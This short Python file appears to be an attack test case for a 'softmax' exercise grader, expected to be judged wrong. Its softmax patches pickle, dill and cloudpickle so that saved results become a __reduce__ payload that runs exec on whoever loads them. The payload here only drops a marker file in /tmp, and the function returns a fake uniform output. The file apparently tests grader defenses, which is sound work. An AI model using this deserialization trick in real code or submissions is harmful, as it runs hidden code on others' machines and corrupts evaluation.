"""Replaces what pickles results in the process of the student: whoever loads them runs its command."""

# /// attack
# exercise = "softmax"
# verdicts = ["wrong"]
# ///

# %% softmax
import os
import pickle
import sys

MARKER = f"left-behind-by-pickle-{os.path.basename(os.getcwd())}"


class Payload:
    def __reduce__(self):
        return exec, (f"import os; open(os.path.join('/tmp', {MARKER!r}), 'w').close()",)


def softmax(x, dim=-1):
    dump, dumps = pickle.dump, pickle.dumps
    for module in (pickle, sys.modules.get("dill"), sys.modules.get("cloudpickle")):
        if module is not None:
            module.dump = lambda value, file, *args, **kwargs: dump(Payload(), file)
            module.dumps = lambda value, *args, **kwargs: dumps(Payload())
    return torch.full_like(x, 1 / x.size(dim))
